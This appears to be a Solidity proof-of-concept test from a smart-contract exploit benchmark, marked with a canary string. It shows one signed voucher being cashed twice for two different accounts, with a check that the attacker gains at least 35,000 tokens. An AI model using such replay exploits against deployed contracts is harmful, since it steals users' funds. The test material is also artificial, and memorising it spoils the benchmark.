// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-4b6db297-691d-4f17-b09b-6ddcadfa1803
import "../Base.sol";

contract Attacker {
    function run(Vouchers vouchers, address one, address two, Vouchers.Voucher calldata v, bytes calldata signature) external {
        try vouchers.cash(one, v, signature) {} catch {}
        try vouchers.cash(two, v, signature) {} catch {}
    }
}

contract Proof is Base {
    Attacker private other;
    Vouchers.Voucher private given;
    bytes private signature;

    function start() internal override {
        other = new Attacker();
        given = voucher(address(other), 20_000e6, 11);
        signature = envelope(ana, vouchers.digestOf(given));
    }

    function exploit() public {
        other.run(vouchers, ana, savings, given, signature);
    }

    function test_Exploit() public {
        exploit();
        require(usd.balanceOf(address(other)) >= 35_000e6, "no gain");
    }

    function target() public view override returns (address) {
        return address(owners);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
